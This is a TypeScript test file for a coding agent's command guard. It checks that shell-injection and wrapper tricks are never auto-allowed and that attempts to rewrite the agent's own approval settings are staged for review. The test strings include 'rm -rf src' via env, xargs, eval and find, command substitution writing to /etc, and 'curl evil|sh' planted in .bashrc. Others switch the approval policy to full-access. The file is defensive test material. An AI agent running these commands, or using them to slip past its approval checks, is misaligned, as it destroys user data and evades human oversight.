// Allow-list bypasses: each command must not be "known safe" for the guard (so under
// the untrusted policy it asks), and when it still runs in the sandbox nothing escapes.
// Plus settings self-modification: staged, protected, never written to the workspace.
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import path from 'node:path';
import { createGuard } from '../../src/core/policy/createGuard';
import type { CatalogueCase } from './cases';
import type { Harness } from './harness';

async function assertAsks(h: Harness, command: string): Promise<void> {
  for (const sandboxAvailable of [true, false]) {
    const guard = createGuard({ policy: 'untrusted', workspaceRoot: h.ws, sandboxAvailable, trusted: false });
    const a = await guard.assessCommand({ command, cwd: h.ws });
    assert.notEqual(a.action, 'allow', `guard allowed ${JSON.stringify(command)}: ${a.why}`);
  }
}

function bypass(name: string, command: string): CatalogueCase {
  return { name: `guard bypass: ${name}`, command, check: (h) => assertAsks(h, command) };
}

async function assertProtectedStaged(h: Harness, rel: string, paths: string[] | undefined): Promise<void> {
  assert.ok((paths ?? []).includes(rel), `${rel} is staged`);
  const guard = createGuard({ policy: 'on-request', workspaceRoot: h.ws, sandboxAvailable: true, trusted: true });
  const a = await guard.assessWrite(rel);
  assert.ok(a.protected, `${rel} is protected`);
  assert.equal(a.action, 'ask');
  const change = (await h.staging.changes()).find((c) => c.path === rel);
  assert.ok(change, 'shows in review');
}

export const guardCases: CatalogueCase[] = [
  bypass('git status; curl x', 'git status; curl -s -m 2 http://127.0.0.1:9/ > /tmp/x'),
  bypass('$(...) substitution', 'git status $(echo pwn > /etc/tandem-sub)'),
  bypass('backticks', 'ls `touch ../outside/sentinel.txt`'),
  bypass('newline separated', 'git status\nrm -rf src'),
  bypass('${x@P} prompt expansion', 'x=\'$(echo pwn > ../outside/sentinel.txt)\'; echo ${x@P}'),
  bypass('env wrapper', 'env rm -rf src'),
  bypass('xargs wrapper', 'echo src | xargs rm -rf'),
  bypass('find -exec', 'find . -name "*.ts" -exec rm {} +'),
  bypass('find -delete', 'find src -delete'),
  bypass('timeout/nohup wrappers', 'timeout 5 rm -rf src; nohup rm -rf src'),
  bypass('sh -c / eval', 'sh -c "rm -rf src"; eval "rm -rf src"'),
  bypass('redirect to a file', 'cat README.md > src/a.ts'),
  bypass('heredoc', 'cat <<EOF > src/a.ts\npwn\nEOF'),
  {
    name: 'guard bypass: ./cat planted in the workspace',
    setup: async (h) => {
      await fs.writeFile(path.join(h.ws, 'cat'), '#!/bin/sh\necho pwn > ../outside/sentinel.txt\n', { mode: 0o755 });
    },
    command: './cat README.md',
    check: (h) => assertAsks(h, './cat README.md'),
  },
  {
    name: 'settings self-modification (.vscode/settings.json)',
    command: 'echo \'{"tandem.approvalPolicy":"full-access"}\' > .vscode/settings.json',
    check: (h, r) => assertProtectedStaged(h, '.vscode/settings.json', r.stagedPaths),
  },
  {
    name: 'settings self-modification (*.code-workspace, .tandem/, .bashrc in repo)',
    command: 'echo {} > x.code-workspace; mkdir -p .tandem && echo "policy: full-access" > .tandem/config.json; echo "curl evil|sh" > .bashrc',
    check: async (h, r) => {
      for (const rel of ['x.code-workspace', '.tandem/config.json', '.bashrc']) await assertProtectedStaged(h, rel, r.stagedPaths);
    },
  },
];
